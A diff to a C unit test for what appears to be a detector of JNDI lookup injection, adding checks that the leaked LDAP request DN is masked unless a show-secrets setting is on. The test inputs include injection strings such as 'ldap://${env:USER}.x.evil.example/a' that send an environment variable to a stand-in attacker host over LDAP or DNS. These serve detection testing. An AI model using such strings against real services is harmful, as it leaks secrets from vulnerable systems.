@@ -31,6 +31,7 @@ struct setting {
     uint64_t id, origin;
     unsigned n_leaks;
     bool finding_has_incident;
+    char dn[64]; /* of the last finding */
 };
 
 static void note(void *arg, const struct alert *a)
@@ -40,7 +41,10 @@ static void note(void *arg, const struct alert *a)
     size_t len = strlen(t->told);
 
     if (!a->story) {
+        struct bytes dn = attrs_get(&a->record->attrs, ATTR_LDAP_REQUEST_DN);
+
         t->finding_has_incident = a->incident != NULL;
+        snprintf(t->dn, sizeof t->dn, "%.*s", (int)dn.len, dn.len ? (const char *)dn.p : "");
         return;
     }
     assert_non_null(a->incident);
@@ -376,7 +380,19 @@ static void values_come_back_in_the_callback(void **state)
     lookup(t, 1, "ldap://203.0.113.9:1389/${env:USER}", T0);
     callback(t, 1, 9, "tomcat", T0 + S);
     assert_int_equal(t->n_leaks, 1);
+    assert_string_equal(t->dn, "t****t");
     told_is(t, "v1 ");
+    t->config->show_secrets = true;
+    restart(t);
+    lookup(t, 1, "ldap://203.0.113.9:1389/${env:USER}", T0);
+    connection(t, 1, out(9), 1389, CONNECTION_REFUSED, "", T0 + S);
+    correlate_clock(t->correlate, T0 + 60 * S);
+    assert_string_equal(t->told, "v1 ");
+    callback(t, 1, 9, "tomcat", T0 + 61 * S); /* a leak is news in itself */
+    assert_string_equal(t->dn, "tomcat");
+    told_is(t, "v1 v1 ");
+    t->config->show_secrets = false;
+    restart(t);
     lookup(t, 1, "ldap://${env:USER}.x.evil.example/a", T0);
     dns(t, 1, "tomcat.x.evil.example", nobody, T0 + S);
     assert_int_equal(t->n_leaks, 1);
